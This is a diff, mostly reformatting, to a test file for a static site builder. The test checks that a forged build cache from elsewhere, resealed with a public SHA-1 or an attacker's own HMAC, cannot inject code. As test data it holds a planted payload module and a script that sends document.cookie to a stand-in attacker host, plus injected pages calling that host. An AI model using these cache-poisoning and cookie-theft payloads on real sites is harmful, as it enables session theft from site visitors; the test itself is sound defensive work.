@@ -1,6 +1,6 @@
 import { createHash, createHmac, randomBytes } from 'node:crypto'
-import { cp, readdir, readFile, writeFile } from 'node:fs/promises'
 import { existsSync } from 'node:fs'
+import { cp, readdir, readFile, writeFile } from 'node:fs/promises'
 import path from 'node:path'
 import { beforeAll, describe, expect, it } from 'vitest'
 import { build } from '../../src/build/index.js'
@@ -35,7 +35,8 @@ const trailer = (digest: Buffer, magic: string, length: number) => {
 }
 const seals: Record<string, (key: Buffer) => Seal> = {
   'the public SHA-1': () => (bytes) => Buffer.concat([bytes, trailer(createHash('sha1').update(bytes).digest(), 'CPH1', bytes.length)]),
-  "an HMAC under the forger's own key": (key) => (bytes) => Buffer.concat([bytes, trailer(createHmac('sha256', key).update(bytes).digest(), 'CPK1', bytes.length)]),
+  "an HMAC under the forger's own key": (key) => (bytes) =>
+    Buffer.concat([bytes, trailer(createHmac('sha256', key).update(bytes).digest(), 'CPK1', bytes.length)]),
 }
 /** The data of a sealed JSON file written whole: its bytes without the 28-byte trailer. */
 const unsealedJson = async (file: string) => JSON.parse((await readFile(file)).subarray(0, -28).toString('utf8')) as Record<string, unknown>
@@ -50,7 +51,7 @@ async function resealAll(dir: string, seal: Seal): Promise<void> {
     const file = path.join(entry.parentPath, entry.name)
     const bytes = await readFile(file)
     const chunks: Buffer[] = []
-    for (let end = bytes.length; end >= 28 && bytes.toString('latin1', end - 4, end) === 'CPK1';) {
+    for (let end = bytes.length; end >= 28 && bytes.toString('latin1', end - 4, end) === 'CPK1'; ) {
       const start = end - 28 - bytes.readUInt32LE(end - 8)
       chunks.unshift(seal(bytes.subarray(start, end - 28)))
       end = start
@@ -83,21 +84,39 @@ describe('a .citypress folder from elsewhere', () => {
       const dir = await tempDir()
       const marker = path.join(dir, 'payload-ran')
       const payload = path.join(dir, 'payload.mjs')
-      await writeFile(payload, `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(marker)}, 'ran')\n`
-        + `export const renderRoute = () => '<!doctype html><p>forged template</p>'\nexport const collectPageFacts = () => ({})\nexport const findForms = () => []\n`)
+      await writeFile(
+        payload,
+        `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(marker)}, 'ran')\n` +
+          `export const renderRoute = () => '<!doctype html><p>forged template</p>'\nexport const collectPageFacts = () => ({})\nexport const findForms = () => []\n`,
+      )
       // The template bundle: a file of the forger's choosing, with no inputs to check.
       const templates = await unsealedJson(path.join(cache, 'tool/templates.json'))
-      await writeFile(path.join(cache, 'tool/templates.json'), seal(Buffer.from(JSON.stringify({ ...templates, inputs: {}, value: { file: payload, hash: 'forged' } }))))
+      await writeFile(
+        path.join(cache, 'tool/templates.json'),
+        seal(Buffer.from(JSON.stringify({ ...templates, inputs: {}, value: { file: payload, hash: 'forged' } }))),
+      )
       // The asset bundle: a script of the forger's, published as the site's.
       const assets = await unsealedJson(path.join(cache, 'tool/assets.json'))
       const value = assets.value as { manifest: Record<string, unknown>; files: { path: string; base64: string }[] } | undefined
-      const script = { path: 'assets/site-0000000000.js', base64: Buffer.from('fetch("https://forger.invalid/"+document.cookie)').toString('base64') }
-      await writeFile(path.join(cache, 'tool/assets.json'), seal(Buffer.from(JSON.stringify({
-        ...assets, inputs: {}, value: { manifest: { ...value?.manifest, js: `/${script.path}` }, files: [...(value?.files ?? []), script] },
-      }))))
+      const script = {
+        path: 'assets/site-0000000000.js',
+        base64: Buffer.from('fetch("https://forger.invalid/"+document.cookie)').toString('base64'),
+      }
+      await writeFile(
+        path.join(cache, 'tool/assets.json'),
+        seal(
+          Buffer.from(
+            JSON.stringify({
+              ...assets,
+              inputs: {},
+              value: { manifest: { ...value?.manifest, js: `/${script.path}` }, files: [...(value?.files ?? []), script] },
+            }),
+          ),
+        ),
+      )
       // Every cached page and image variant replaced, their recorded hashes to match.
       const pages = path.join(cache, 'pages')
-      const stamps = await unsealedJson(path.join(pages, 'stamps.json')) as Record<string, unknown[]>
+      const stamps = (await unsealedJson(path.join(pages, 'stamps.json'))) as Record<string, unknown[]>
       const page = Buffer.from('<!doctype html><script>fetch("https://forger.invalid/")</script>')
       for (const name of (await readdir(pages)).filter((n) => n.endsWith('.html'))) {
         await writeFile(path.join(pages, name), page)
@@ -116,7 +135,7 @@ describe('a .citypress folder from elsewhere', () => {
     })
   }
 
-  it("gives the output of a clean build when it comes from a build of another site", async () => {
+  it('gives the output of a clean build when it comes from a build of another site', async () => {
     const other = await siteFrom('minimal')
     await build({ site: other, outDir: path.join(await tempDir(), 'dist') })
     expect(await builtOutput(await copyWith(site, path.join(other, '.citypress')))).toEqual(clean)
